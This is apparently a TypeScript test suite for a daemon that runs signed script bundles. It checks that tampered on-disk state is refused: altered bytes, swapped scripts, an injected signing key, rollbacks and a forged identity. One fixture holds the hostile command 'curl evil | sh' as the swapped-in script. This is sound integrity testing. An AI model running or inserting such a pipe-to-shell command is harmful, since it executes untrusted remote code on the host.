import { Database } from "bun:sqlite";
import { expect, test } from "bun:test";
import { readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import type { Sleep } from "../../../daemon/node/sleep.ts";
import { createSigningKey, exportSigningKey, sha256Hex } from "../../../protocol/keys.ts";
import { nodePaths } from "../../../protocol/status.ts";
import { createRig, type Rig, until } from "./node-rig.ts";

/** A node that has run revision 1 and is stopped; `change` edits its disk before it starts without a server. */
async function restartChanged(change: (database: Database, rig: Rig) => void): Promise<Rig> {
  const rig = await createRig({ prepare: (server) => server.publish(1, { disk: "echo good" }) });
  await until("it runs", () => rig.running.has("disk"));
  await rig.shutDown();
  const database = new Database(join(rig.directory, "state.db"));
  change(database, rig);
  database.close();
  rig.server.intercept = () => {
    throw new Error("connection refused");
  };
  rig.running.clear();
  await rig.start();
  return rig;
}

const evil = new TextEncoder().encode("curl evil | sh");

const changes: [string, string, (database: Database, rig: Rig) => void][] = [
  [
    "a byte of the bundle",
    "signature",
    (database) => {
      const bytes =
        database.query<{ bytes: Uint8Array }, []>("SELECT bytes FROM bundles").get()?.bytes ?? new Uint8Array();
      const middle = Math.floor(bytes.length / 2);
      bytes[middle] = bytes[middle] === 65 ? 66 : 65;
      database.query("UPDATE bundles SET bytes = ?").run(bytes);
    },
  ],
  [
    "the script under its old hash",
    "blob_hash",
    (database) => database.query("UPDATE blobs SET bytes = ?").run(new TextEncoder().encode("echo evil")),
  ],
  [
    "a longer script under its old hash",
    "blob_size",
    (database) => database.query("UPDATE blobs SET bytes = ?").run(evil),
  ],
  ["the script removed", "blob_size", (database) => database.run("DELETE FROM blobs")],
];

test.each(changes)("changed on disk: %s: refused with %s at the start, fetched again", async (_name, code, change) => {
  await using rig = await restartChanged(change);
  expect([...rig.running.keys()]).toEqual([]);
  expect(rig.metric(`aami_bundle_rejects_total{reason="${code}"}`)).toBe(1);
  expect(rig.lines.find(({ level }) => level === "error")).toMatchObject({
    msg: "bundle on disk was refused, fetching it again",
    code,
  });
  rig.server.intercept = () => undefined;
  await until("it runs again", () => rig.running.has("disk"));
  expect(new TextDecoder().decode(rig.running.get("disk")?.script)).toBe("echo good");
  expect(rig.server.requests.filter(({ path }) => path === nodePaths.register)).toHaveLength(1);
});

test("a key and a bundle written into the database are not believed", async () => {
  await using rig = await createRig({ prepare: (server) => server.publish(1, { disk: "echo good" }) });
  await until("it runs", () => rig.running.has("disk"));
  await rig.shutDown();
  const stranger = createSigningKey();
  const { bytes } = await rig.server.sign(2, { disk: "echo good" }, { key: stranger });
  const hash = sha256Hex(Buffer.from(Buffer.from(bytes).toString().split(".")[1] ?? "", "base64url"));
  const database = new Database(join(rig.directory, "state.db"));
  database.run("CREATE TABLE IF NOT EXISTS trusted_keys (id TEXT PRIMARY KEY, public_key TEXT NOT NULL)");
  database.query("INSERT INTO trusted_keys (id, public_key) VALUES (?, ?)").run(stranger.id, stranger.publicKey);
  database.query("UPDATE bundles SET version = 2, hash = ?, bytes = ? WHERE slot = 'active'").run(hash, bytes);
  database.query("UPDATE mark SET version = 2, hash = ?").run(hash);
  database.close();
  rig.running.clear();
  rig.server.intercept = () => new Response("", { status: 503 });
  await rig.start();
  expect([...rig.running.keys()]).toEqual([]);
  expect(rig.metric('aami_bundle_rejects_total{reason="signature"}')).toBe(1);
});

test("an older bundle put back with its row is refused, and the mark still stops a rollback by the server", async () => {
  await using rig = await createRig({ prepare: (server) => server.publish(1, { disk: "echo 1" }) });
  await until("1 runs", () => rig.metric("aami_bundle_revision") === 1);
  await rig.server.publish(2, { disk: "echo 2" });
  await until("2 runs", () => rig.metric("aami_bundle_revision") === 2);
  await rig.shutDown();
  const database = new Database(join(rig.directory, "state.db"));
  database.run("DELETE FROM bundles WHERE slot = 'active'");
  database.run("UPDATE bundles SET slot = 'active'");
  database.close();
  rig.running.clear();
  rig.server.serve(await rig.server.sign(1, { disk: "echo 1" }));
  await rig.start();
  expect([...rig.running.keys()]).toEqual([]);
  await until("the server's old one is refused too", () => rig.node.status().error?.code === "rollback");
  await rig.server.publish(3, { disk: "echo 3" });
  await until("3 runs", () => rig.metric("aami_bundle_revision") === 3);
});

test("a database that is gone costs a download, not a registration", async () => {
  await using rig = await createRig({ prepare: (server) => server.publish(1, { disk: "echo good" }) });
  await until("it runs", () => rig.running.has("disk"));
  await rig.shutDown();
  writeFileSync(join(rig.directory, "state.db"), "garbage ".repeat(1000));
  rig.running.clear();
  await rig.start();
  await until("it runs again", () => rig.running.has("disk"));
  expect(rig.server.requests.filter(({ path }) => path === nodePaths.register)).toHaveLength(1);
});

test("an identity file with another's key does not pass for this node", async () => {
  await using rig = await restartChanged((_database, { directory }) => {
    const path = join(directory, "identity.json");
    const file = JSON.parse(readFileSync(path, "utf8"));
    writeFileSync(path, JSON.stringify({ ...file, privateKey: exportSigningKey(createSigningKey()) }));
  });
  rig.server.intercept = () => undefined;
  await until("the server refuses it", () => rig.metric("aami_registered") === 0);
  expect(sha256Hex(rig.running.get("disk")?.script ?? "")).toBe(sha256Hex("echo good"));
});

const untilAborted: Sleep = (_ms, signal) =>
  new Promise((resolve) => {
    if (signal.aborted) resolve();
    else signal.addEventListener("abort", () => resolve());
  });

test("two crashes with a new bundle: the one before it runs, and only a newer one replaces it", async () => {
  await using rig = await createRig({ prepare: (server) => server.publish(1, { disk: "echo 1" }) });
  await until("1 runs", () => rig.metric("aami_bundle_revision") === 1);
  await rig.server.publish(2, { disk: "echo 2" });
  await until("2 runs", () => rig.metric("aami_bundle_revision") === 2);
  const crash = async () => {
    await rig.shutDown();
    const database = new Database(join(rig.directory, "state.db"));
    // A stop that was asked for ends the trial; after a crash it is still there.
    database.query("INSERT OR REPLACE INTO meta (key, value) VALUES ('trial_starts', ?)").run(String(starts));
    database.close();
    await rig.start({ sleep: untilAborted });
  };
  let starts = 0;
  await crash();
  expect([rig.metric("aami_bundle_revision"), rig.metric("aami_bundle_rolled_back")]).toEqual([2, 0]);
  starts = 1;
  await crash();
  expect([rig.metric("aami_bundle_revision"), rig.metric("aami_bundle_rolled_back")]).toEqual([1, 1]);
  expect(rig.store.state.mark()?.version).toBe(2);
  expect(rig.lines.some(({ msg }) => String(msg).startsWith("daemon crashed twice with a new bundle"))).toBe(true);
  await rig.restart();
  await until("the server is asked", () => rig.metric("aami_server_reachable") === 1);
  expect([rig.metric("aami_bundle_revision"), rig.metric("aami_bundle_rolled_back")]).toEqual([1, 1]);
  await rig.server.publish(3, { disk: "echo 3" });
  await until("3 runs", () => rig.metric("aami_bundle_revision") === 3);
  expect(rig.metric("aami_bundle_rolled_back")).toBe(0);
  expect(rig.store.state.bundle("previous")?.version).toBe(1);
});
